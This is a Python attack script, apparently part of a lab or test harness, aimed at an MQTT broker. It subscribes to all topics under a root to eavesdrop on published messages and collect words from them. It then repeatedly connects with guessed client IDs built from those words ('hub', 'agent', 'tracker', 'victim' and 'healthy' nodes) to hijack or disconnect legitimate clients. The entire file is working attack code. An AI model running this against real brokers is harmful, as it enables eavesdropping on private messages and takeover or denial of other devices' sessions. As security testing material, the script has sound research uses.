"""Connects by client ids that somebody can know who hears all that is published."""

import asyncio
import itertools
import re

from attacker import again, attack, counts, is_over, target
from mqtt_packets import TOPIC_ROOT, subscribe_packet, thief

LISTEN_S = 2
HOLD_S = 0.05
PROGRAMS = ["hub", "agent", "tracker"]
heard = set(PROGRAMS)


async def listen():
    connection = await thief()
    if connection is None:
        return
    reader, writer = connection
    writer.write(subscribe_packet(["%s/#" % TOPIC_ROOT]))
    while data := await reader.read(65536):
        heard.update(word.decode() for word in re.findall(rb"[\w-]{3,64}", data))
    raise ConnectionResetError


def guesses():
    """What a program might have made of a text that it publishes."""
    parts = sorted(heard | {word[:8] for word in heard})
    nodes = [word for word in parts if word.startswith(("healthy", "victim"))]
    heads = PROGRAMS + ["%s-%s" % pair for pair in itertools.product(nodes, PROGRAMS)]
    return parts + heads + ["%s-%s" % pair for pair in itertools.product(heads, parts)]


async def take_over():
    await asyncio.sleep(LISTEN_S)
    tried = set()
    while not is_over():
        for guess in guesses():
            if guess in tried or guess == target["user"]:
                continue
            tried.add(guess)
            connection = await thief(guess)
            counts["ids tried"] += 1
            if connection is not None:
                await asyncio.sleep(HOLD_S)
                connection[1].transport.abort()
        await asyncio.sleep(HOLD_S)


attack(again(listen), again(take_over))
